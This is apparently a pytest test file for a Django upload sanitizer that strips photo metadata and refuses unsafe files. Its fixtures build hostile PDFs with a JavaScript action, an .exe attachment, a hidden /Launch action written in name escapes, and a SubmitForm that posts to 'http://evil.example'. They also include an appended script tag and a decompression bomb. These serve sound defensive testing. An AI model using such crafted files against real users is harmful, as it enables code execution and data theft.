"""A scan is told by its content and kept without anything that acts or tells where it was."""

from __future__ import annotations

import io
from collections.abc import Callable

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from nuanxin.base.files import cleaning
from nuanxin.base.files.cleaning import PHOTO, Form, clean_photo, clean_scan
from nuanxin.kit.refusal import Refusal


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **extra: object) -> bytes:
    target = io.BytesIO()
    image = Image.effect_noise(size, 90).convert("RGB")
    image.save(target, form, **extra)
    return target.getvalue()


def located() -> bytes:
    """A photo as a phone takes it: position, camera, lying on its side, a comment."""
    exif = Image.Exif()
    exif[0x010F] = "某手机"
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[2] = (31.0, 44.0, 12.0)
    return picture(exif=exif, comment=b"xiaoli at home", icc_profile=b"profile")


def pdf(*, spoil: str = "") -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if spoil:
        _SPOILT[spoil](writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def _hidden_action(writer: PdfWriter) -> None:
    """No page leads there, and its name is written so that no search for words finds it."""
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch")})
    writer._add_object(action)


_SPOILT: dict[str, Callable[[PdfWriter], object]] = {
    "script": lambda writer: writer.root_object.update({
        NameObject("/AA"): DictionaryObject({NameObject("/JS"): TextStringObject("alert(1)")})
    }),
    "file": lambda writer: writer.add_attachment("a.exe", b"MZ"),
    "hidden": _hidden_action,
    "submit": lambda writer: writer.root_object.update({
        NameObject("/OpenAction"): DictionaryObject({
            NameObject("/S"): NameObject("/SubmitForm"),
            NameObject("/F"): TextStringObject("http://evil.example"),
        })
    }),
    "password": lambda writer: writer.encrypt("1234", algorithm="RC4-128"),
}  # fmt: skip


def upload(content: bytes, name: str = "户口簿.jpg") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def test_a_photo_keeps_its_pixels_and_nothing_else() -> None:
    before = located()
    assert b"xiaoli" in before
    kept = clean_scan(upload(before), "户口簿")
    assert kept.form is Form.JPEG
    with Image.open(io.BytesIO(kept.content)) as after:
        assert after.size == (40, 60), "stands upright though the mark that said so is gone"
        assert not after.getexif()
        assert not {"comment", "exif", "icc_profile"} & set(after.info)
    assert b"xiaoli" not in kept.content


def test_what_stands_behind_the_picture_is_gone() -> None:
    for content in (picture(), picture("PNG")):
        kept = clean_scan(upload(content + b"<script>alert(1)</script>"), "照片")
        assert b"script" not in kept.content


def test_the_content_tells_what_it_is_not_the_name() -> None:
    assert clean_scan(upload(picture("PNG"), "a.pdf"), "照片").form is Form.PNG
    assert clean_scan(upload(pdf(), "a.jpg"), "照片").form is Form.PDF
    for other in (b"GIF89a...", b"<html>", b"PK\x03\x04", b"MZ"):
        with pytest.raises(Refusal, match="应为 PDF、JPG 或 PNG"):
            clean_scan(upload(other, "a.jpg"), "照片")


def test_a_picture_from_a_phone_becomes_small_whatever_was_sent() -> None:
    for sent in (picture(size=(3000, 2000), quality=95), picture("PNG", (1500, 1500))):
        kept = clean_photo(upload(sent), "身份证")
        assert kept.form is Form.JPEG
        assert len(kept.content) <= PHOTO.size
        with Image.open(io.BytesIO(kept.content)) as after:
            assert max(after.size) <= PHOTO.edge


def test_a_plain_pdf_is_kept_byte_for_byte() -> None:
    content = pdf()
    assert clean_scan(upload(content), "证明").content == content
    assert len(PdfReader(io.BytesIO(content)).pages) == 1


@pytest.mark.parametrize("spoil", ["script", "file", "hidden", "submit"])
def test_a_pdf_that_acts_or_brings_files_is_refused(spoil: str) -> None:
    with pytest.raises(Refusal, match="脚本、附件"):
        clean_scan(upload(pdf(spoil=spoil)), "证明")


def test_a_name_written_in_escapes_is_read_as_it_is_meant() -> None:
    content = pdf(spoil="hidden").replace(b"/Launch", b"/#4caunch")
    assert b"/Launch" not in content
    with pytest.raises(Refusal, match="脚本、附件"):
        clean_scan(upload(content), "证明")


def test_opening_at_a_page_is_no_action() -> None:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    goes = ArrayObject([page.indirect_reference, NameObject("/Fit")])
    writer.root_object[NameObject("/OpenAction")] = goes
    target = io.BytesIO()
    writer.write(target)
    assert clean_scan(upload(target.getvalue()), "证明").form is Form.PDF


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "是空的"),
        (b"%PDF-1.7 nothing", "已损坏"),
        (picture()[:200], "已损坏"),
        (picture("PNG")[:60], "已损坏"),
        (pdf(spoil="password"), "设了密码"),
    ],
)
def test_what_cannot_be_read_says_what_to_do(content: bytes, said: str) -> None:
    with pytest.raises(Refusal, match=said):
        clean_scan(upload(content), "证明")


def test_a_bomb_is_not_opened() -> None:
    target = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(target, "PNG")
    assert len(target.getvalue()) < 1 << 20
    with pytest.raises(Refusal, match="大得不正常"):
        clean_scan(upload(target.getvalue()), "照片")


def test_ten_megabytes_are_the_most(monkeypatch: pytest.MonkeyPatch) -> None:
    content = picture()
    monkeypatch.setattr(cleaning, "LARGEST", len(content))
    assert clean_scan(upload(content), "照片").content
    with pytest.raises(Refusal, match="超过 10 MB"):
        clean_scan(upload(content + b"."), "照片")


def test_nothing_chosen_is_asked_for() -> None:
    with pytest.raises(Refusal, match="请选择“户口簿”"):
        clean_scan(None, "户口簿")
    with pytest.raises(Refusal, match="请拍一张照片"):
        clean_photo(upload(pdf()), "户口簿")
